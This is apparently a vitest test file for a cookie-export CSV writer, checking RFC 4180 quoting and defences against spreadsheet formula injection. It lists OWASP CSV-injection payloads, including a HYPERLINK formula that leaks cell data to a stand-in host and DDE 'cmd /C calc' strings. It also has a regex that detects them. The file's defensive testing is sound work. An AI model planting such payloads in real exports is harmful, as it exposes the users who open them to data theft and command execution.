import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { HOSTILE_TEXT, labelledCookieArb, makeCookie } from '../../../test/support/export-records';
import { CSV_COLUMNS, csvField, formatCsv } from './csv';
import { cookieSize, type LabelledCookie } from './labelled-cookie';

/**
 * A strict RFC 4180 reader: records end in CRLF, a bare CR or LF outside quotes is an error, and
 * so is a quote inside an unquoted field or text after a closing quote. If the writer ever leaves
 * something unquoted that needs quoting, this throws instead of guessing.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  const atEnd = () => i >= text.length;
  if (!text.endsWith('\r\n')) throw new Error('last record must end in CRLF');
  while (!atEnd()) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (atEnd()) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
      if (!atEnd() && text[i] !== ',' && !text.startsWith('\r\n', i)) throw new Error(`text after quote at ${i}`);
    } else {
      while (!atEnd() && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`quote in unquoted field at ${i}`);
        field += text[i++];
      }
      if (text[i] === '\n' || (text[i] === '\r' && text[i + 1] !== '\n')) throw new Error(`bare line break at ${i}`);
    }
    record.push(field);
    if (text[i] === ',') {
      i++;
    } else {
      i += 2;
      records.push(record);
      record = [];
    }
  }
  return records;
}

/**
 * What the comment in csv.ts tells a reader to do with a text cell: a leading `'` was added by the
 * writer, so drop exactly one.
 */
function unguard(field: string): string {
  return field.startsWith("'") ? field.slice(1) : field;
}

/**
 * What a spreadsheet would take for a formula or a command: a cell that starts with `=`, `+`, `-`
 * or `@` once leading whitespace and invisible characters are skipped, or one that starts with a
 * tab or carriage return.
 */
const FORMULA_START = /^(?:[\t\r]|[\s\p{Cc}\p{Cf}]*[=+\-@])/u;

/** OWASP's usual CSV-injection payloads, and the same after whitespace a spreadsheet skips. */
const FORMULA_PAYLOADS: readonly string[] = [
  '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\t',
  '\r',
  ' =1',
  '  +1',
  '\n-1',
  '\u00a0@SUM(1)',
  '\u3000=1',
  '\u200b=1',
  '\ufeff=1',
  '\u0000=1',
  '=1,=2',
  '-1+1;=cmd',
  '=',
  '-',
];

function rowsOf(cookies: readonly LabelledCookie[]): Record<string, string>[] {
  const [header, ...rows] = parseCsv(formatCsv(cookies));
  expect(header).toEqual(CSV_COLUMNS);
  return rows.map((row) => {
    expect(row).toHaveLength(header.length);
    return Object.fromEntries(header.map((h, i) => [h, row[i]]));
  });
}

describe('csvField', () => {
  it('leaves plain text bare and quotes what RFC 4180 requires', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\ronly')).toBe('"cr\ronly"');
    expect(csvField(' edge')).toBe('" edge"');
    expect(csvField(null)).toBe('');
    expect(csvField(false)).toBe('false');
    expect(csvField(0.5)).toBe('0.5');
  });

  it.each(FORMULA_PAYLOADS.map((t) => [JSON.stringify(t), t]))(
    'puts a quote before %s and quotes the field',
    (_, t) => {
      expect(csvField(t)).toBe(`"'${t.replaceAll('"', '""')}"`);
    },
  );

  it('puts a quote before text that already starts with one, so that one is always dropped', () => {
    expect(csvField("'=1")).toBe(`"''=1"`);
    expect(csvField("'plain")).toBe(`"''plain"`);
    expect(csvField("it's")).toBe("it's");
  });

  it('leaves numbers and booleans alone, however negative', () => {
    expect(csvField(-1)).toBe('-1');
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField(true)).toBe('true');
  });

  it('leaves text with a formula character later in it alone', () => {
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('GA1.2-3+4@x')).toBe('GA1.2-3+4@x');
  });
});

describe('formatCsv', () => {
  it('writes a header only for no cookies', () => {
    expect(formatCsv([])).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });

  it('writes every attribute and the label', () => {
    const [row] = rowsOf([
      makeCookie({ partitionKey: { topLevelSite: 'https://top.test', hasCrossSiteAncestor: true } }),
    ]);
    expect(row).toMatchObject({
      name: '_acme',
      value: 'GA1.2.3',
      domain: '.example.test',
      path: '/',
      host_only: 'false',
      session: 'false',
      expires: new Date(1_800_000_000_500).toISOString(),
      expiration_date: '1800000000.5',
      size: String('_acme'.length + 'GA1.2.3'.length),
      http_only: 'false',
      secure: 'true',
      same_site: 'lax',
      partition_top_level_site: 'https://top.test',
      partition_cross_site_ancestor: 'true',
      store_id: '0',
      category: 'analytics',
      vendor: 'Acme Analytics',
      purpose: 'Counts visits.',
      duration: '2 years',
      party: 'first',
      label_source: 'exact',
      confidence: '0.95',
      entry_id: 'acme/_acme',
    });
  });

  it('leaves the expiry of a session cookie empty', () => {
    const [row] = rowsOf([makeCookie({ session: true, expirationDate: undefined })]);
    expect(row.expires).toBe('');
    expect(row.expiration_date).toBe('');
  });

  const TEXT_COLUMNS = [
    'name',
    'value',
    'domain',
    'path',
    'partition_top_level_site',
    'vendor',
    'purpose',
    'reason',
    'if_deleted_reason',
    'entry_id',
  ];

  it.each(
    [...HOSTILE_TEXT, ...FORMULA_PAYLOADS, "'quoted by the site", "''=1"].map((t) => [
      JSON.stringify(t.slice(0, 30)),
      t,
    ]),
  )('round-trips %s in every text column, with no cell a spreadsheet would run', (_, t) => {
    const [row] = rowsOf([
      makeCookie(
        { name: t, value: t, domain: t, path: t, partitionKey: { topLevelSite: t } },
        { vendor: t, purpose: t, reason: t, ifDeletedReason: t, entryId: t },
      ),
    ]);
    for (const column of TEXT_COLUMNS) {
      expect(row[column]).not.toMatch(FORMULA_START);
      expect(unguard(row[column])).toBe(t);
    }
  });

  it('round-trips any cookie (property)', () => {
    fc.assert(
      fc.property(fc.array(labelledCookieArb, { maxLength: 8 }), (cookies) => {
        const rows = rowsOf(cookies);
        expect(rows).toHaveLength(cookies.length);
        rows.forEach((row, i) => {
          const { cookie, label } = cookies[i];
          for (const field of Object.values(row)) expect(field).not.toMatch(FORMULA_START);
          expect(unguard(row.name)).toBe(cookie.name);
          expect(unguard(row.value)).toBe(cookie.value);
          expect(unguard(row.domain)).toBe(cookie.domain);
          expect(unguard(row.path)).toBe(cookie.path);
          expect(unguard(row.vendor)).toBe(label.vendor ?? '');
          expect(unguard(row.purpose)).toBe(label.purpose ?? '');
          expect(row.category).toBe(label.category);
          expect(row.http_only).toBe(String(cookie.httpOnly));
          expect(row.size).toBe(String(cookieSize(cookie)));
        });
      }),
      { numRuns: 300 },
    );
  });
});
